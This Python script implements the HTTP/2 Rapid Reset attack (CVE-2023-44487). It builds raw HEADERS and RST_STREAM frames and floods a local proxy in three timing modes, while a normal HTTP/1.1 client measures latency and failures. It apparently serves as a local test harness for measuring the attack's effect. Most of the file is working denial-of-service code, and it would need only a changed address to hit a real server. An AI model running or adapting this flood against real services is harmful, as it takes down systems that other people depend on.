#!/usr/bin/env python3
"""Rapid reset (HTTP/2, CVE-2023-44487) against a proxy in front of a service of HTTP/1, and a well-behaved client beside it.

    rapid_reset.py PORT SECONDS MANNER CONNECTIONS

PORT on 127.0.0.1 takes both versions in the clear. MANNER is one of
    none      no attack
    together  each request and its reset in one segment
    batch     a hundred requests, and a millisecond later their resets
    apart     each request, and its reset a little later
Prints what the well-behaved client got, which asks 200 times a second, and what the attackers sent.
"""
import socket
import sys
import threading
import time

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
SETTINGS_ACK, END_STREAM_AND_HEADERS = 1, 5
CANCEL = (8).to_bytes(4, "big")
# :method GET, :scheme http, :path /, :authority test
GET = bytes([0x82, 0x86, 0x84, 0x01, 4]) + b"test"
BATCH = 100


def frame(kind, flags, stream, body=b""):
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def requests(first, count):
    return [frame(HEADERS, END_STREAM_AND_HEADERS, first + 2 * i, GET) for i in range(count)]


def resets(first, count):
    return [frame(RST_STREAM, 0, first + 2 * i, CANCEL) for i in range(count)]


class Attack:
    def __init__(self, port, manner, until):
        self.port, self.manner, self.until = port, manner, until
        self.pairs = self.connections = 0

    def run(self):
        while time.time() < self.until:
            try:
                with socket.create_connection(("127.0.0.1", self.port)) as connection:
                    self.connections += 1
                    self.hold(connection)
            except OSError:
                pass

    def hold(self, connection):
        connection.settimeout(0.5)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
        connection.sendall(preface + frame(SETTINGS, SETTINGS_ACK, 0))
        stream, count = 1, 1 if self.manner == "apart" else BATCH
        while time.time() < self.until:
            asked, reset = requests(stream, count), resets(stream, count)
            if self.manner == "together":
                connection.sendall(b"".join(a + b for a, b in zip(asked, reset)))
            else:
                connection.sendall(b"".join(asked))
                time.sleep(0.0002 if self.manner == "apart" else 0.001)
                connection.sendall(b"".join(reset))
            stream += 2 * count
            self.pairs += count


class Client:
    def __init__(self, port, until):
        self.port, self.until, self.times, self.failures = port, until, [], 0

    def run(self):
        connection = None
        while time.time() < self.until:
            began = time.time()
            try:
                if connection is None:
                    connection = socket.create_connection(("127.0.0.1", self.port))
                    connection.settimeout(10)
                connection.sendall(b"GET / HTTP/1.1\r\nHost: test\r\n\r\n")
                answer = b""
                while b"\r\n\r\n" not in answer:
                    piece = connection.recv(65536)
                    if not piece:
                        raise OSError("closed")
                    answer += piece
                self.failures += not answer.startswith(b"HTTP/1.1 200")
                self.times.append(time.time() - began)
            except OSError:
                self.failures, connection = self.failures + 1, None
            time.sleep(max(0.0, 0.005 - (time.time() - began)))

    def quantile(self, q):
        times = sorted(self.times) or [float("nan")]
        return times[min(len(times) - 1, int(len(times) * q))] * 1e3


def main():
    port, seconds, manner, connections = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    until = time.time() + seconds
    client, attack = Client(port, until), Attack(port, manner, until)
    attackers = [] if manner == "none" else [attack.run] * connections
    threads = [threading.Thread(target=run) for run in [client.run, *attackers]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(
        f"{manner}: {len(client.times) / seconds:.0f} answers/s, p50 {client.quantile(0.5):.2f} ms, "
        f"p99 {client.quantile(0.99):.1f} ms, {client.failures} failures; attackers: "
        f"{attack.pairs / seconds:.0f} requests/s on {attack.connections} connections"
    )


if __name__ == "__main__":
    main()
